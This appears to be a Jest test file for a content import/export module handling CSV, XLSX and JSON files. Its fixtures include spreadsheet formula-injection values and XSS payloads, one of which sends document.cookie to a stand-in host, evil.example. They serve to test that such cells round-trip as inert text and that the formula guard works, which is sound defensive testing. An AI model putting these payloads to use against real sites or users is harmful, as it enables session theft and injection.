import { Readable } from 'node:stream';
import ExcelJS from 'exceljs';
import { parse as parseCsvSync } from 'csv-parse/sync';
import { readRows, TRANSFER_LIMITS, TransferFileError, writeRows, type Format, type ReadOptions, type ReadRow } from '../files';
import type { Problem } from '../problems';

const COLUMNS = { type: 'text', slug: 'text', locale: 'text', title: 'text', body: 'text', position: 'integer', allSites: 'yesno', goLiveAt: 'date', tags: 'text' } as const;
const ORDER = Object.keys(COLUMNS);

async function* chunks(bytes: Uint8Array, size = 64 * 1024): AsyncGenerator<Uint8Array> {
  for (let at = 0; at < bytes.length; at += size) yield bytes.subarray(at, at + size);
}

/** Every row, or the file-level problem that stopped the read. */
async function read(bytes: Uint8Array, format: Format, options: Partial<ReadOptions> = {}, chunkSize?: number): Promise<{ rows: ReadRow[]; problem: Problem | null }> {
  const rows: ReadRow[] = [];
  try {
    for await (const row of readRows(chunks(bytes, chunkSize), { format, file: `content.${format}`, columns: COLUMNS, exportOnly: ['status', 'source:title'], ...options })) rows.push(row);
    return { rows, problem: null };
  } catch (error) {
    if (error instanceof TransferFileError) return { rows, problem: error.problem };
    throw error;
  }
}

async function workbook(rows: unknown[][]): Promise<Buffer> {
  const book = new ExcelJS.Workbook();
  const sheet = book.addWorksheet('content');
  for (const row of rows) sheet.addRow(row);
  return Buffer.from(await book.xlsx.writeBuffer());
}

const utf8 = (text: string) => Buffer.from(text, 'utf8');

const TRICKY: Record<string, string>[] = [
  { type: 'article', slug: 'formula', locale: 'en', title: '=HYPERLINK("http://evil","x")', body: '+1 -1 @SUM(A1)', position: '-3', tags: "'quoted'" },
  { type: 'article', slug: 'lines', locale: 'en', title: 'one, two; "three"', body: '## Heading\n\n- a\n- b\n\nend', position: '1', allSites: 'yes' },
  { type: 'article', slug: 'unicode', locale: 'ar-EG', title: 'مرحبا بالعالم', body: 'Habari yako? Karibu sana 👋🏽 — ✅ ñ é', goLiveAt: '2026-03-01T08:00:00.000Z' },
  { type: 'banner', slug: 'html', locale: 'sw-KE', title: '<script>alert("x")</script>', body: '<img src=x onerror=alert(1)> &amp; </td>', tags: 'hiv, testing' },
  { type: 'page', slug: 'quotes', locale: 'en', title: '"', body: "''", position: '0', allSites: 'no' },
];

describe('writeRows → readRows', () => {
  it.each<Format>(['csv', 'xlsx', 'json'])('gives back the same cells in %s', async (format) => {
    const bytes = await writeRows(TRICKY, ORDER, format);
    const { rows, problem } = await read(bytes, format);
    expect(problem).toBeNull();
    expect(rows.map((row) => row.problems)).toEqual(TRICKY.map(() => []));
    expect(rows.map((row) => row.row)).toEqual([2, 3, 4, 5, 6]);
    // Every column of the file comes back, the empty ones as ''.
    expect(rows.map((row) => row.cells)).toEqual(TRICKY.map((row) => Object.fromEntries(ORDER.map((column) => [column, row[column] ?? '']))));
  });

  it.each<Format>(['csv', 'xlsx', 'json'])('gives back CR LF and CR line ends as LF in %s (XLSX cannot keep a CR)', async (format) => {
    const { rows } = await read(await writeRows([{ type: 'article', title: 'a\r\nb\rc\nd' }], ['type', 'title'], format), format);
    expect(rows[0]?.cells.title).toBe('a\nb\nc\nd');
  });

  it('keeps a character that falls across two chunks of an XLSX part whole (exceljs decodes chunk by chunk)', async () => {
    // Long enough that the shared strings part reaches the reader in several chunks, wherever they cut.
    const body = Array.from({ length: 400 }, (_, index) => `فقرة ${index}: خصوصيتك مهمة لنا 👋🏽 — Karibu.`).join('\n\n');
    const { rows, problem } = await read(await writeRows([{ type: 'article', body }], ['type', 'body'], 'xlsx'), 'xlsx');
    expect(problem).toBeNull();
    expect(rows[0]?.cells.body).toBe(body);
  });

  it('writes characters XML cannot hold as U+FFFD in XLSX, so the file still opens', async () => {
    const { rows, problem } = await read(await writeRows([{ type: 'a\u0001b\u0000c\uFFFEd\uD800e 👋🏽\tf' }], ['type'], 'xlsx'), 'xlsx');
    expect(problem).toBeNull();
    expect(rows[0]?.cells.type).toBe('a\uFFFDb\uFFFDc\uFFFDd\uFFFDe 👋🏽\tf');
  });

  it('writes CSV as UTF-8 with a BOM, CRLF, RFC 4180 quotes and the formula guard', async () => {
    const text = (await writeRows([{ a: '=1+1', b: 'x, "y"\nz', c: '-5' }], ['a', 'b', 'c'], 'csv')).toString('utf8');
    expect(text).toBe('\uFEFFa,b,c\r\n\'=1+1,"x, ""y""\nz",\'-5\r\n');
  });

  it('quotes a CSV cell with a line break and nothing else to quote, as spreadsheets and csv libraries expect', async () => {
    const text = (await writeRows([{ a: 'one\ntwo', b: 'x' }], ['a', 'b'], 'csv')).toString('utf8');
    expect(text).toBe('\uFEFFa,b\r\n"one\ntwo",x\r\n');
    // Read as a tool that ends a record at any line break outside quotes (Python's csv, Excel): still one row.
    expect(parseCsvSync(text, { bom: true, record_delimiter: ['\r\n', '\n'] })).toEqual([['a', 'b'], ['one\ntwo', 'x']]);
  });

  it('writes XLSX as one sheet named content with every cell a string', async () => {
    const bytes = await writeRows([{ a: '1', b: '2026-03-01', c: 'TRUE' }], ['a', 'b', 'c'], 'xlsx');
    const book = new ExcelJS.Workbook();
    await book.xlsx.read(Readable.from([bytes]));
    expect(book.worksheets.map((sheet) => sheet.name)).toEqual(['content']);
    expect(book.worksheets[0]?.getRow(2).values).toEqual([undefined, '1', '2026-03-01', 'TRUE']);
  });

  it('writes JSON in the baobab-content shape', async () => {
    const bytes = await writeRows([{ type: 'article', slug: 'a' }], ['type', 'slug', 'title'], 'json');
    expect(JSON.parse(bytes.toString('utf8'))).toEqual({ format: 'baobab-content', version: 1, rows: [{ type: 'article', slug: 'a', title: '' }] });
  });
});

describe('readRows', () => {
  it('matches headers case-insensitively and trimmed, ignores export-only columns and trims cells', async () => {
    const { rows } = await read(utf8(' TYPE ,Slug,STATUS,Source:Title,title\r\narticle , a ,published,Hello, Hi \r\n'), 'csv');
    expect(rows).toEqual([{ row: 2, cells: { type: 'article', slug: 'a', title: 'Hi' }, problems: [] }]);
    const empty = await read(utf8('type,slug,title\narticle,a,\n'), 'csv');
    expect(empty.rows[0]?.cells).toEqual({ type: 'article', slug: 'a', title: '' });
  });

  it('skips empty rows but keeps the spreadsheet\'s row numbers', async () => {
    const csv = await read(utf8('type,slug\n\n,\narticle,a\n\n\narticle,b\n'), 'csv');
    expect(csv.rows.map((row) => [row.row, row.cells.slug])).toEqual([[4, 'a'], [7, 'b']]);
    const xlsx = await read(await workbook([['type', 'slug'], [], ['article', 'a'], [], ['article', 'b']]), 'xlsx');
    expect(xlsx.rows.map((row) => [row.row, row.cells.slug])).toEqual([[3, 'a'], [5, 'b']]);
    const json = await read(utf8(JSON.stringify({ format: 'baobab-content', version: 1, rows: [{ type: 'article', slug: 'a' }, { type: '', slug: '' }, { type: 'article', slug: 'b' }] })), 'json');
    expect(json.rows.map((row) => [row.row, row.cells.slug])).toEqual([[2, 'a'], [4, 'b']]);
  });

  it('reads XLSX numbers, booleans, dates and rich text as the contract says', async () => {
    const bytes = await workbook([
      ['type', 'slug', 'title', 'position', 'allSites', 'goLiveAt', 'body'],
      ['article', 'a', { richText: [{ text: 'Rich ' }, { text: 'text', font: { bold: true } }] }, 1.0, true, new Date('2026-03-01T08:00:00Z'), 3.14],
      ['article', 'b', 0.1 + 0.2, 12345678901, false, null, -0.5],
    ]);
    const { rows, problem } = await read(bytes, 'xlsx');
    expect(problem).toBeNull();
    expect(rows.map((row) => row.cells)).toEqual([
      { type: 'article', slug: 'a', title: 'Rich text', position: '1', allSites: 'yes', goLiveAt: '2026-03-01T08:00:00.000Z', body: '3.14' },
      { type: 'article', slug: 'b', title: '0.3', position: '12345678901', allSites: 'no', goLiveAt: '', body: '-0.5' },
    ]);
  });

  it('reads HTML and scripts back as exactly the text they are, in every format', async () => {
    const cells = { type: 'article', slug: 'x', title: '<script>document.location="https://evil.example/?c="+document.cookie</script>', body: '<iframe src="javascript:alert(1)"></iframe><!-- -->' };
    for (const format of ['csv', 'xlsx', 'json'] as const) {
      const { rows } = await read(await writeRows([cells], ['type', 'slug', 'title', 'body'], format), format);
      expect(rows[0]?.cells).toEqual(cells);
    }
  });

  it('reads the sheet named content when a workbook has several', async () => {
    const book = new ExcelJS.Workbook();
    book.addWorksheet('notes').addRow(['nothing', 'here']);
    const sheet = book.addWorksheet('Content');
    sheet.addRow(['type', 'slug']);
    sheet.addRow(['article', 'a']);
    const { rows } = await read(Buffer.from(await book.xlsx.writeBuffer()), 'xlsx');
    expect(rows.map((row) => row.cells)).toEqual([{ type: 'article', slug: 'a' }]);
  });
});

describe('bad files', () => {
  const oneRowXlsx = () => writeRows([{ type: 'article', slug: 'a', title: 'T' }], ['type', 'slug', 'title'], 'xlsx');
  const big = 'x'.repeat(21 * 1024);

  // Each file, the format it is sent as, and the problem expected: file-level (row null) or in a row.
  it.each<[string, () => Promise<Uint8Array>, Format, Partial<Problem>, RegExp]>([
    ['a truncated XLSX (cut in half)', async () => (await oneRowXlsx()).subarray(0, 3000), 'xlsx', { code: 'TRANSFER_TRUNCATED', row: null }, /damaged or cut short.*save it again as "Excel Workbook/],
    ['an XLSX missing its last 100 bytes', async () => (await oneRowXlsx()).subarray(0, (await oneRowXlsx()).length - 100), 'xlsx', { code: 'TRANSFER_TRUNCATED' }, /cut short/],
    [
      'an XLSX damaged in the middle',
      async () => {
        const bytes = Buffer.from(await oneRowXlsx());
        bytes.fill(0x41, 600, 1600);
        return bytes;
      },
      'xlsx',
      { code: 'TRANSFER_TRUNCATED' },
      /damaged/,
    ],
    ['a Latin-1 CSV', async () => Buffer.from('type,slug,title\narticle,a,Cafe\narticle,b,Caf\xe9 na\xefve\n', 'latin1'), 'csv', { code: 'TRANSFER_NOT_UTF8', row: null }, /not saved as UTF-8 \(line 3 is the first.*"CSV UTF-8 \(Comma delimited\) \(\*\.csv\)"/],
    ['a Latin-1 CSV arriving a byte at a time', async () => Buffer.from('type,slug,title\narticle,a,Caf\xe9\n', 'latin1'), 'csv', { code: 'TRANSFER_NOT_UTF8' }, /line 2/],
    ['an XLSX sent as csv a byte at a time', oneRowXlsx, 'csv', { code: 'TRANSFER_BAD_FORMAT' }, /workbook.*not CSV/],
    ['a UTF-16 CSV', async () => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('type,slug\r\narticle,a\r\n', 'utf16le')]), 'csv', { code: 'TRANSFER_NOT_UTF8' }, /UTF-16.*"CSV UTF-8 \(Comma delimited\)/],
    ['a UTF-16 big-endian CSV', async () => Buffer.from([0xfe, 0xff, 0x00, 0x74]), 'csv', { code: 'TRANSFER_NOT_UTF8' }, /UTF-16/],
    ['an XLSX sent as csv', oneRowXlsx, 'csv', { code: 'TRANSFER_BAD_FORMAT' }, /workbook.*not CSV/],
    ['an XLSX sent as json', oneRowXlsx, 'json', { code: 'TRANSFER_BAD_FORMAT' }, /workbook.*not JSON/],
    ['a CSV sent as xlsx', async () => utf8('type,slug\narticle,a\n'), 'xlsx', { code: 'TRANSFER_BAD_FORMAT' }, /text \(CSV\?\), not an XLSX workbook/],
    ['a JSON export sent as csv', () => writeRows([{ type: 'article' }], ['type'], 'json'), 'csv', { code: 'TRANSFER_BAD_FORMAT' }, /JSON, not CSV/],
    ['an old .xls workbook', async () => Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]), 'xlsx', { code: 'TRANSFER_BAD_FORMAT' }, /\.xls.*"Excel Workbook \(\.xlsx\)"/],
    ['a truncated JSON', async () => (await writeRows([{ type: 'article' }], ['type'], 'json')).subarray(0, 40), 'json', { code: 'TRANSFER_TRUNCATED' }, /damaged or cut short/],
    ['JSON of another shape', async () => utf8('{"rows":[{"type":"article"}]}'), 'json', { code: 'TRANSFER_BAD_FORMAT' }, /"format":"baobab-content"/],
    ['a CSV cut inside a quoted cell', async () => utf8('type,slug,body\narticle,a,"## Heading\n\nsome'), 'csv', { code: 'TRANSFER_TRUNCATED' }, /never closed \(line \d+\)/],
    ['a file over 20 MiB', async () => utf8(`type,slug,body\n${Array.from({ length: 1024 }, (_, n) => `article,s${n},${big}`).join('\n')}\n`), 'csv', { code: 'TRANSFER_FILE_TOO_LARGE' }, /larger than 20 MiB.*split it/],
    ['an XLSX over 20 MiB', async () => Buffer.alloc(21 * 1024 * 1024, 0x50), 'xlsx', { code: 'TRANSFER_FILE_TOO_LARGE' }, /larger than 20 MiB/],
    ['an unknown column', async () => utf8('type,slug,Titel,Foo\narticle,a,x,y\n'), 'csv', { code: 'TRANSFER_UNKNOWN_COLUMN', column: 'Titel' }, /Unknown columns "Titel" \(C\), "Foo" \(D\) in row 1: rename them to one of type, slug, locale/],
    ['a duplicate column', async () => utf8('type,slug,Title, title \narticle,a,x,y\n'), 'csv', { code: 'TRANSFER_DUPLICATE_COLUMN', column: 'title' }, /"title" appears twice in row 1 \(C and D\)/],
    ['a duplicate JSON key', async () => utf8('{"format":"baobab-content","version":1,"rows":[{"type":"a","TYPE":"b"}]}'), 'json', { code: 'TRANSFER_DUPLICATE_COLUMN' }, /appears twice/],
    ['no header', async () => utf8('article,a,Hello\n'), 'csv', { code: 'TRANSFER_NO_HEADER' }, /Row 1 must name the columns/],
    ['a CSV separated by semicolons', async () => utf8('type;slug\narticle;a\n'), 'csv', { code: 'TRANSFER_BAD_FORMAT' }, /separates its cells with ";", not commas.*"CSV UTF-8 \(Comma delimited\)/],
    ['an empty file', async () => utf8(''), 'csv', { code: 'TRANSFER_NO_HEADER' }, /empty/],
    ['65 columns', async () => utf8(`${['type', ...Array.from({ length: 64 }, (_, n) => `c${n}`)].join(',')}\n`), 'csv', { code: 'TRANSFER_BAD_FORMAT' }, /65 columns, 1 more than the 64 allowed/],
  ])('%s', async (name, make, format, expected, message) => {
    const { problem } = await read(await make(), format, {}, name.endsWith('a byte at a time') ? 1 : undefined);
    expect(problem).toMatchObject(expected);
    expect(problem?.message).toMatch(message);
    // One sentence a person can act on: no stack, no internals.
    expect(problem?.message).not.toMatch(/Error:|at .*\.js|undefined/);
  });

  it.each<[string, () => Promise<Uint8Array>, Format, Partial<Problem>, RegExp]>([
    ['a formula cell made with exceljs', () => workbook([['type', 'slug', 'title'], ['article', 'a', { formula: 'CONCAT("a","b")', result: 'ab' }]]), 'xlsx', { code: 'TRANSFER_FORMULA', row: 2, column: 'title' }, /formula \(=CONCAT\("a","b"\)\).*Paste Special → Values/],
    ['a slug a spreadsheet made a date', () => workbook([['type', 'slug'], ['article', new Date('2026-01-02T00:00:00Z')]]), 'xlsx', { code: 'TRANSFER_SPREADSHEET_DATE', row: 2, column: 'slug' }, /turned this cell into a date \(2026-01-02\)/],
    ['an error cell', () => workbook([['type', 'slug'], ['article', { error: '#N/A' }]]), 'xlsx', { code: 'TRANSFER_BAD_CELL', column: 'slug' }, /#N\/A/],
    ['a cell over 100,000 characters', async () => utf8(`type,slug,body\narticle,a,${'é'.repeat(100_005)}\n`), 'csv', { code: 'TRANSFER_CELL_TOO_LONG', row: 2, column: 'body' }, /100,005 characters, 5 more than the 100,000 allowed/],
    ['a value under no header', async () => utf8('type,slug\narticle,a,stray\n'), 'csv', { code: 'TRANSFER_BAD_CELL', row: 2, column: 'C' }, /C has a value but no column name/],
    ['a JSON list in a cell', async () => utf8('{"format":"baobab-content","version":1,"rows":[{"type":"article","tags":["a"]}]}'), 'json', { code: 'TRANSFER_BAD_CELL', row: 2, column: 'tags' }, /must be text/],
  ])('%s is a problem in its row', async (_name, make, format, expected, message) => {
    const { rows, problem } = await read(await make(), format);
    expect(problem).toBeNull();
    expect(rows[0]?.problems).toHaveLength(1);
    expect(rows[0]?.problems[0]).toMatchObject(expected);
    expect(rows[0]?.problems[0]?.message).toMatch(message);
  });

  it('stops a 100,000-row CSV at row 20,002, reporting progress on the way', async () => {
    const lines = ['type,slug,locale,title'];
    for (let n = 0; n < 100_000; n += 1) lines.push(`article,slug-${n},en,Title ${n}`);
    const progress: number[] = [];
    const started = Date.now();
    const { rows, problem } = await read(utf8(lines.join('\r\n')), 'csv', { onProgress: (count) => progress.push(count) });
    const took = Date.now() - started;
    expect(problem).toMatchObject({ code: 'TRANSFER_TOO_MANY_ROWS', row: null });
    expect(problem?.message).toMatch(/more than 20,000 rows.*stopped at row 20,002.*split it/);
    expect(rows).toHaveLength(TRANSFER_LIMITS.rows);
    expect(rows[rows.length - 1]?.row).toBe(20_001);
    expect(progress).toEqual(Array.from({ length: 20 }, (_, n) => (n + 1) * 1000));
    expect(took).toBeLessThan(15_000);
  });

  it('stops an XLSX past the row limit too', async () => {
    const rows = Array.from({ length: TRANSFER_LIMITS.rows + 5 }, (_, n) => ({ type: 'article', slug: `s${n}` }));
    const { rows: read_, problem } = await read(await writeRows(rows, ['type', 'slug'], 'xlsx'), 'xlsx');
    expect(problem).toMatchObject({ code: 'TRANSFER_TOO_MANY_ROWS' });
    expect(read_).toHaveLength(TRANSFER_LIMITS.rows);
  });
});
